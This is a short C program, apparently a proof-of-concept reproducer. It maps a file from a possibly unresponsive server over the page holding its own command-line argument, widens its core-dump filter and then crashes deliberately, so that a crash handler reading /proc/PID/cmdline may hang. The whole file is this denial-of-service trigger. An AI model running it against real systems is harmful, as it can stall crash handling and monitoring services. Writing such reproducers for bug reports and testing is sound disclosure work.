/* A crash with a page of a file whose server may never answer, in its argument: /proc/PID/cmdline is read there. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

int main(int argc, char **argv) /* FILE LONG-ARGUMENT */
{
    int fd = argc > 2 ? open(argv[1], O_RDONLY) : -1;
    int filter = open("/proc/self/coredump_filter", O_WRONLY);
    void *page = (void *)(((uintptr_t)argv[2] + 4095) & ~4095UL);
    if (fd < 0 || write(filter, "0x7f", 4) != 4 || /* files' pages as well */
        mmap(page, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) != page) {
        perror("lured");
        return 1;
    }
    *(volatile int *)16 = 1;
}
